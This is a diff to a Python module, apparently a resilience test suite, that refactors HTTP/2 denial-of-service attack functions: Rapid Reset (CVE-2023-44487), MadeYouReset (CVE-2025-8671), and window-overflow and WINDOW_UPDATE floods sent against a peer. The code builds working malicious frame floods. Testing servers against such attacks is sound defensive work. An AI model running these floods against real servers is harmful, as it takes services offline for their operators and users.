@@ -15,11 +15,17 @@ from wire import DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, RST_STREA
 LOAD = message(b"\x0a\x06nobody")
 LOAD_SECTION = block(SERVICE + "LoadState")
 SAVE_SECTION = block(SERVICE + "SaveState")
+#: The code of RST_STREAM (RFC 9113 §7).
+CANCEL = 8
+LARGEST_WINDOW = (1 << 31) - 1
 
 
-def calls_of(section, payload, count):
-    """So many whole calls at a time, on new streams."""
-    return lambda connection: b"".join(call(connection.take_stream(), section, payload) for _ in range(count))
+def calls_of(section, payload, count, then=None):
+    """So many whole calls at a time, on new streams; `then` is the type of a frame that follows each on its stream, and the number in it."""
+    def one(stream):
+        return call(stream, section, payload) + (frame(then[0], 0, stream, struct.pack(">I", then[1])) if then else b"")
+
+    return lambda connection: b"".join(one(connection.take_stream()) for _ in range(count))
 
 
 @attack("frames", closes=True)
@@ -49,7 +55,7 @@ def window_update_flood(peer):
 
 @attack("frames", closes=True)
 def window_overflow(peer):
-    flood(peer, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 1)) * 2)
+    flood(peer, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", LARGEST_WINDOW)) * 2)
 
 
 @attack("frames", closes=True)
@@ -137,12 +143,7 @@ def huge_metadata_60KB(peer):
 @attack("frames")
 def rapid_reset(peer):
     """CVE-2023-44487."""
-    def chunk(connection):
-        streams = [connection.take_stream() for _ in range(100)]
-        return b"".join(
-            call(stream, LOAD_SECTION, LOAD) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)) for stream in streams)
-
-    flood(peer, chunk)
+    flood(peer, calls_of(LOAD_SECTION, LOAD, 100, then=(RST_STREAM, CANCEL)))
 
 
 def _save(flow, state):
@@ -157,7 +158,7 @@ def rapid_reset_of_saves_of_1MiB(peer):
         stream = connection.take_stream()
         connection.pump(frame(HEADERS, END_HEADERS, stream, SAVE_SECTION))
         connection.send_body(stream, payload)
-        return frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
+        return frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
 
     flood(peer, chunk, keeps=True)
 
@@ -165,24 +166,13 @@ def rapid_reset_of_saves_of_1MiB(peer):
 @attack("frames")
 def made_you_reset_by_window_update_0(peer):
     """CVE-2025-8671: the server is made to reset the streams itself."""
-    def chunk(connection):
-        streams = [connection.take_stream() for _ in range(100)]
-        return b"".join(
-            call(stream, LOAD_SECTION, LOAD) + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0)) for stream in streams)
-
-    flood(peer, chunk)
+    flood(peer, calls_of(LOAD_SECTION, LOAD, 100, then=(WINDOW_UPDATE, 0)))
 
 
 @attack("frames")
 def made_you_reset_by_overflow_of_saves(peer):
     payload = _save("reset", b'"%s"' % (b"x" * 10_000))
-
-    def chunk(connection):
-        streams = [connection.take_stream() for _ in range(20)]
-        return b"".join(
-            call(stream, SAVE_SECTION, payload) + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", (1 << 31) - 1)) for stream in streams)
-
-    flood(peer, chunk)
+    flood(peer, calls_of(SAVE_SECTION, payload, 20, then=(WINDOW_UPDATE, LARGEST_WINDOW)))
 
 
 @attack("frames")
